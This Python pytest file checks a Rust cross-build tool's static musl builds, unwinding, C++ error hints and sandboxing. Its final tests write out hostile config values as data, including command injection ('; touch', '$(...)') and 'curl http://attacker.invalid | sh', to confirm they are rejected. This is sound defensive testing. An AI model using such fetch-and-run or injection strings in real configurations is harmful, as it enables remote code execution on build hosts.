"""Static musl programs against the real engine: every musl target (x86_64, i686, aarch64, armv7 with hard float,
riscv64, which Rust links dynamically unless its `target-features` say `+crt-static`), whose Rust std the image
builds from Debian's sources in its layer (the foreign ones' programs run under qemu, without a library prefix). The
seed C example and a -sys crate (zlib through the cc crate) build with a plain `cargo build --target`, link
statically (no interpreter, no needed library) and run; unwinding works (a caught panic, a `#[should_panic]` test;
ARM's is EHABI, not DWARF); `verify --release` finds the builds the same. C++ fails with one line that says why, and
the hint says what to do; a library that pkg-config does not find gets the hint to build it from source. A project
cannot make the layer's std build run commands of its own, nor replace the musl targets' compilers with its own
outside the build's container."""

from __future__ import annotations

import struct
from dataclasses import dataclass
from pathlib import Path

import pytest

from .helpers import (
    AARCH64_MUSL,
    ARMV7_MUSL,
    I686_MUSL,
    RISCV64_MUSL,
    RUNNABLE,
    X86_64,
    X86_64_MUSL,
    Cli,
    assert_unwinding,
    assert_verified_same,
    copy_fixture,
    single_error_line,
)

MUSL = X86_64_MUSL


@dataclass(frozen=True)
class Arch:
    rust: str  # std::env::consts::ARCH
    c: str  # what the seed's C code says it was compiled for
    bits: int  # the ELF class
    machine: int  # e_machine: EM_X86_64, EM_386, EM_AARCH64, EM_ARM, EM_RISCV


# Each musl target, with its architecture as the programs and their ELF header say it.
MUSL_TARGETS = {
    MUSL: Arch(rust="x86_64", c="x86_64", bits=64, machine=62),
    I686_MUSL: Arch(rust="x86", c="i686", bits=32, machine=3),
    AARCH64_MUSL: Arch(rust="aarch64", c="aarch64", bits=64, machine=183),
    ARMV7_MUSL: Arch(rust="arm", c="arm", bits=32, machine=40),
    RISCV64_MUSL: Arch(rust="riscv64", c="riscv64", bits=64, machine=243),
}

# Minutes: `-m "not slow"` leaves this file out of a quick run.
pytestmark = [pytest.mark.engine, pytest.mark.slow, pytest.mark.std_images(*MUSL_TARGETS)]

EPOCH = {"SOURCE_DATE_EPOCH": "1700000000"}
# The openssl-sys of tests/fixtures/openssl-app's Cargo.lock.
OPENSSL_SYS = "0.9.118"


_PT_DYNAMIC, _PT_INTERP, _DT_NEEDED = 2, 3, 1


@dataclass(frozen=True)
class _ElfLayout:
    """Where an ELF class keeps what the check reads (the System V ABI's Elf32_/Elf64_ structures)."""

    phoff: tuple[int, str]  # e_phoff's offset and format
    phentsize: int  # e_phentsize's offset; e_phnum follows it
    header: str  # a program header's format, up to p_filesz
    fields: tuple[int, int, int]  # where p_type, p_offset and p_filesz are in it (64-bit puts p_flags second)
    dynamic: str  # a dynamic entry: d_tag, d_val


_ELF_LAYOUT = {
    64: _ElfLayout(phoff=(0x20, "<Q"), phentsize=0x36, header="<IIQQQQ", fields=(0, 2, 5), dynamic="<qQ"),
    32: _ElfLayout(phoff=(0x1C, "<I"), phentsize=0x2A, header="<IIIII", fields=(0, 1, 4), dynamic="<iI"),
}


def static_elf_problems(path: Path, arch: Arch) -> list[str]:
    """What makes the little-endian ELF file at ``path`` other than a statically linked program for ``arch``: an
    interpreter (PT_INTERP) or a needed library (DT_NEEDED). A static-pie program has a dynamic section, for its own
    relocations, and nothing in it is needed."""
    data = path.read_bytes()
    ident = b"\x7fELF" + bytes([1 if arch.bits == 32 else 2, 1])
    assert data[:6] == ident, f"{path}: not a {arch.bits}-bit little-endian ELF file ({data[:6]!r})"
    (machine,) = struct.unpack_from("<H", data, 0x12)
    assert machine == arch.machine, f"{path}: e_machine {machine}, not {arch.machine}"
    layout = _ELF_LAYOUT[arch.bits]
    (phoff,) = struct.unpack_from(layout.phoff[1], data, layout.phoff[0])
    phentsize, phnum = struct.unpack_from("<HH", data, layout.phentsize)
    kind_at, offset_at, size_at = layout.fields
    problems = []
    for index in range(phnum):
        fields = struct.unpack_from(layout.header, data, phoff + index * phentsize)
        kind, offset, size = fields[kind_at], fields[offset_at], fields[size_at]
        if kind == _PT_INTERP:
            interpreter = data[offset : offset + size].rstrip(b"\0").decode()
            problems.append(f"interpreter {interpreter}")
        if kind == _PT_DYNAMIC:
            for entry in range(offset, offset + size, struct.calcsize(layout.dynamic)):
                tag, _ = struct.unpack_from(layout.dynamic, data, entry)
                if tag == _DT_NEEDED:
                    problems.append("a DT_NEEDED library")
    return problems


@pytest.mark.parametrize("target", MUSL_TARGETS)
@pytest.mark.parametrize("fixture", ["seed-c-lib", "zlib-sys"])
def test_c_code_builds_statically_and_runs(
    tmp_path_factory: pytest.TempPathFactory, xpcargo: Cli, fixture: str, target: str
) -> None:
    project = copy_fixture(tmp_path_factory, fixture)
    ran = xpcargo(["run", "--target", target], cwd=project)
    assert ran.code == 0, ran
    for line in RUNNABLE[fixture].expected_lines(target):
        assert line in ran.stdout_lines, ran
    binary = project / "target" / target / "debug" / RUNNABLE[fixture].binary
    assert static_elf_problems(binary, MUSL_TARGETS[target]) == [], binary


@pytest.mark.parametrize("target", MUSL_TARGETS)
def test_unwinding_catches_panics_and_should_panic_passes(
    tmp_path_factory: pytest.TempPathFactory, xpcargo: Cli, target: str
) -> None:
    project = assert_unwinding(xpcargo, tmp_path_factory, target)
    assert static_elf_problems(project / "target" / target / "release" / "should-panic", MUSL_TARGETS[target]) == []


# zlib's verify builds zlib twice, 25 to 50 s a target (measured 2026-12-06, the heaviest test here): it runs for the
# first two musl targets only; the seed's C example checks every target's C build the same way in 6 to 8 s.
VERIFIED = [
    *[("seed-c-lib", target) for target in MUSL_TARGETS],
    ("zlib-sys", MUSL),
    ("zlib-sys", AARCH64_MUSL),
]


@pytest.mark.parametrize(("fixture", "target"), VERIFIED)
def test_verify_release_is_green(
    tmp_path_factory: pytest.TempPathFactory, xpcargo: Cli, fixture: str, target: str
) -> None:
    project = copy_fixture(tmp_path_factory, fixture)
    assert_verified_same(xpcargo(["verify", "--target", target, "--release"], cwd=project, env=EPOCH))


# --- C++: no C++ standard library for musl, said in one line ------------------------------------------------------

NO_CXX = "xpcargo: no C++ standard library for musl targets"


def no_cxx_hint(package: str, target: str) -> str:
    glibc = target.replace("-musl", "-gnu")
    return (
        f"hint: the build script of {package} compiles C++, and xpcargo has no C++ standard library for musl targets "
        f"(Debian packages none for musl): build {target} without the crate's C++ part (a feature that leaves it "
        f"out), or build for {glibc} instead"
    )


def test_the_cxx_fixture_builds_and_runs_where_there_is_a_cxx_library(
    tmp_path_factory: pytest.TempPathFactory, xpcargo: Cli
) -> None:
    # The control for the test below: the fixture is real C++ (strings in a vector), which the cc crate compiles and
    # links with libstdc++ for the glibc target.
    project = copy_fixture(tmp_path_factory, "cxx-build")
    ran = xpcargo(["run", "--target", X86_64], cwd=project)
    assert ran.code == 0, ran
    assert ran.stdout_lines[-2:] == ["hello from C++", "arch=x86_64"], ran


@pytest.mark.parametrize("target", MUSL_TARGETS)
def test_cxx_for_musl_fails_with_one_line_that_says_why_and_a_hint(
    tmp_path_factory: pytest.TempPathFactory, xpcargo: Cli, target: str
) -> None:
    project = copy_fixture(tmp_path_factory, "cxx-build")
    result = xpcargo(["build", "--target", target], cwd=project)
    assert result.code == 101, result
    said = [line for line in result.stderr_lines if NO_CXX in line]
    assert said, result
    assert all(f"{NO_CXX} ({target}): Debian packages no libstdc++ for musl" in line for line in said), result
    # Not gcc's complaint about a header it cannot find, which is all that musl-gcc as the C++ compiler said.
    assert "No such file or directory" not in result.stderr, result
    assert result.stderr_lines[-1] == no_cxx_hint("cxx-build v0.1.0", target), result


def test_a_system_library_that_pkg_config_cannot_find_gets_the_hint_to_build_it_from_source(
    tmp_path_factory: pytest.TempPathFactory, xpcargo: Cli
) -> None:
    # openssl-sys without `vendored` asks pkg-config for openssl, which looks only where musl's libraries are.
    project = copy_fixture(tmp_path_factory, "openssl-app")
    result = xpcargo(["build", "--target", MUSL], cwd=project)
    assert result.code == 101, result
    assert "The system library `openssl` required by crate `openssl-sys` was not found" in result.stderr, result
    assert result.stderr_lines[-1] == (
        f"hint: the build script of openssl-sys v{OPENSSL_SYS} found no `openssl.pc` for {MUSL}: Debian packages no "
        "library built for musl (its -dev packages are glibc builds); build it from source with the crate's feature "
        "for that (`openssl`'s `vendored` feature)"
    ), result


# --- A project cannot replace the musl targets' compilers outside its build's container -----------------------------

HOST_MARKER = Path("/tmp/xpcargo-cxx-hostile-pwned")
SHARE = Path(__file__).resolve().parents[2] / "images" / "share"


def test_a_build_script_cannot_replace_the_cxx_script_or_the_musl_compilers(
    tmp_path_factory: pytest.TempPathFactory, xpcargo: Cli
) -> None:
    before = {path.name: path.read_bytes() for path in SHARE.iterdir()}
    project = copy_fixture(tmp_path_factory, "cxx-hostile")
    result = xpcargo(["build", "--target", MUSL], cwd=project)
    attempts = (project / "attack-result").read_text(encoding="utf-8").splitlines()
    assert len(attempts) == 8, attempts
    # The share directory is mounted read-only, and so is the image's file system.
    for attempt in attempts:
        assert attempt.endswith("Read-only file system (os error 30)"), attempts
    assert {path.name: path.read_bytes() for path in SHARE.iterdir()} == before
    # The C++ compiler the build ran is still xpcargo's script.
    assert result.code == 101, result
    assert "TROJANED" not in result.stderr, result
    assert result.stderr_lines[-1] == no_cxx_hint("cxx-hostile v0.1.0", MUSL), result


def test_a_projects_own_cxx_runs_only_in_its_builds_container(
    tmp_path_factory: pytest.TempPathFactory, xpcargo: Cli
) -> None:
    HOST_MARKER.unlink(missing_ok=True)
    project = copy_fixture(tmp_path_factory, "cxx-hostile")
    # The image first (on an empty engine this is its first build), so that a rebuild below would show.
    assert xpcargo(["image", "build", MUSL], cwd=project).code == 0
    config = (project / "xpcargo.toml").read_text(encoding="utf-8")
    (project / "xpcargo.toml").write_text(config + 'cxx = "sh ./cxx-attack.sh"\n', encoding="utf-8")
    result = xpcargo(["build", "--target", MUSL], cwd=project)
    assert result.code == 101, result
    # It ran (the project chose it), in the build's container: the image layer (whose std build runs as root, with
    # the network) is the same as without it, and the host's /tmp never saw it.
    assert "the project's C++ compiler ran" in result.stderr, result
    assert (project / "cxx-ran").read_text(encoding="utf-8").startswith("ran as uid "), result
    assert "Building image" not in result.stderr, result
    assert not HOST_MARKER.exists()


# --- A project cannot turn the std build into commands of its own ---------------------------------------------------

MARKER = Path("/tmp/xpcargo-std-source-pwned")


@pytest.mark.parametrize(
    ("settings", "said"),
    [
        # A shell command hidden in a path the layer's script copies.
        (f'std-unwinder = "/usr/lib/llvm-19/lib/libunwind.a; touch {MARKER}"', "std-unwinder"),
        (f'std-self-contained = ["$(touch {MARKER})"]', "std-self-contained"),
        # The compiler of the std's compiler-rt runs in that layer too: one program of the image, never a command.
        (f'std-cc = "musl-gcc; touch {MARKER}"', "std-cc"),
        (f'std-ar = "$(touch {MARKER})"', "std-ar"),
        # The sources the std is built from come from xpcargo's recipe, pinned by hash, never from the project.
        ('rust-source = "http://attacker.invalid/rust-web-src_all.deb"', "rust-source"),
        ('std = "curl http://attacker.invalid | sh"', "std"),
    ],
)
def test_a_project_cannot_make_the_std_build_run_commands(
    tmp_path_factory: pytest.TempPathFactory, cli: Cli, settings: str, said: str
) -> None:
    project = copy_fixture(tmp_path_factory, "std-source-hostile")
    config = (project / "xpcargo.toml").read_text(encoding="utf-8")
    (project / "xpcargo.toml").write_text(config + settings + "\n", encoding="utf-8")
    result = cli(["build", "--target", MUSL], cwd=project)
    assert result.code == 3, result
    line = single_error_line(result)
    assert "xpcargo.toml" in line, result
    assert said in line, result
    assert "Building image" not in result.stderr, result
    assert not MARKER.exists()
